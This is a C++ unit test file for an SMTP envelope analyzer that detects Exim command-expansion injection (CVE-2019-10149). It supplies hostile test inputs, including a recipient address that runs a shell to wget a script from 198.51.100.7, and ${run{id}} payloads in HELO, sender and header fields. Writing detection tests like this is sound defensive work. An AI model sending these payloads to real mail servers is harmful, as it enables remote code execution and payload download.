// smtp_envelope: an Exim expansion in the envelope (recipient, sender, HELO) or in the headers an
// MTA records it in is reported with where it was; ordinary and odd-but-valid addresses are not.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "analyzers/analyzer_harness.h"

namespace vigie {
namespace {

const analyzers::AnalyzerHarness& harness() {
  static const analyzers::AnalyzerHarness instance("smtp_envelope");
  return instance;
}

const std::string kMessage = "From: a@example.org\nTo: b@interieur.gouv.fr\nSubject: x\n\nhello\n";

TEST(SmtpEnvelopeTest, EximRunExpansionInARecipientIsCve201910149) {
  Envelope envelope;
  envelope.mail_from = "";
  envelope.recipients = {"helene.bernard@interieur.gouv.fr",
                         "${run{\\x2fbin\\x2fsh\\t-c\\t\\x22wget\\x20198.51.100.7\\x2fsh\\x22}}@interieur.gouv.fr"};
  const std::vector<Finding> findings = harness().analyze(kMessage, {}, envelope);
  const Finding* f = analyzers::AnalyzerHarness::find(findings, "MTA_EXPANSION_EXPLOIT");
  ASSERT_NE(f, nullptr);
  ASSERT_EQ(f->evidence.size(), 1u);
  EXPECT_EQ(f->evidence[0].field, "envelope:rcpt");
  EXPECT_EQ(f->evidence[0].value.rfind("${run{", 0), 0u) << f->evidence[0].value;
  EXPECT_EQ(f->group, "server_exploit");
  EXPECT_EQ(f->attack, std::vector<std::string>{"T1190"});
}

TEST(SmtpEnvelopeTest, SenderHeloAndRecordedEnvelopeHeadersAreRead) {
  Envelope envelope;
  envelope.helo = "${run{id}}";
  envelope.mail_from = "x${RUN{id}}@example.org";
  const std::vector<Finding> findings = harness().analyze(
      "Return-Path: <${run{\\x2fbin\\x2fsh}}@example.org>\nX-Original-To: root+${run{id}}@mx.example\n"
      "From: a@example.org\nSubject: x\n\nhello\n",
      {}, envelope);
  const Finding* f = analyzers::AnalyzerHarness::find(findings, "MTA_EXPANSION_EXPLOIT");
  ASSERT_NE(f, nullptr);
  std::vector<std::string> fields;
  for (const Evidence& e : f->evidence) fields.push_back(e.field);
  EXPECT_EQ(fields, (std::vector<std::string>{"envelope:helo", "envelope:mail_from", "header:Return-Path",
                                              "header:X-Original-To"}));
}

TEST(SmtpEnvelopeTest, LongPayloadsAreShownCut) {
  Envelope envelope;
  envelope.recipients = {"${run{" + std::string(5000, 'A') + "}}@interieur.gouv.fr"};
  const Finding* f = analyzers::AnalyzerHarness::find(harness().analyze(kMessage, {}, envelope), "MTA_EXPANSION_EXPLOIT");
  ASSERT_NE(f, nullptr);
  EXPECT_LT(f->evidence[0].value.size(), 300u);
}

TEST(SmtpEnvelopeTest, OrdinaryAndOddButValidAddressesAreSilent) {
  Envelope envelope;
  envelope.helo = "mx1.partenaire.example";
  envelope.mail_from = "bounce+SRS=ab12=cd@lists.example.org";
  envelope.recipients = {"helene.bernard@interieur.gouv.fr", "\"john doe\"@example.org", "price$5{off}@shop.example",
                         "user+tag{1}@example.org"};
  EXPECT_EQ(analyzers::AnalyzerHarness::find(harness().analyze(kMessage, {}, envelope), "MTA_EXPANSION_EXPLOIT"),
            nullptr);
  EXPECT_EQ(analyzers::AnalyzerHarness::find(
                harness().analyze("Return-Path: <bounce@example.org>\nDelivered-To: b@interieur.gouv.fr\n" + kMessage),
                "MTA_EXPANSION_EXPLOIT"),
            nullptr);
}

}  // namespace
}  // namespace vigie
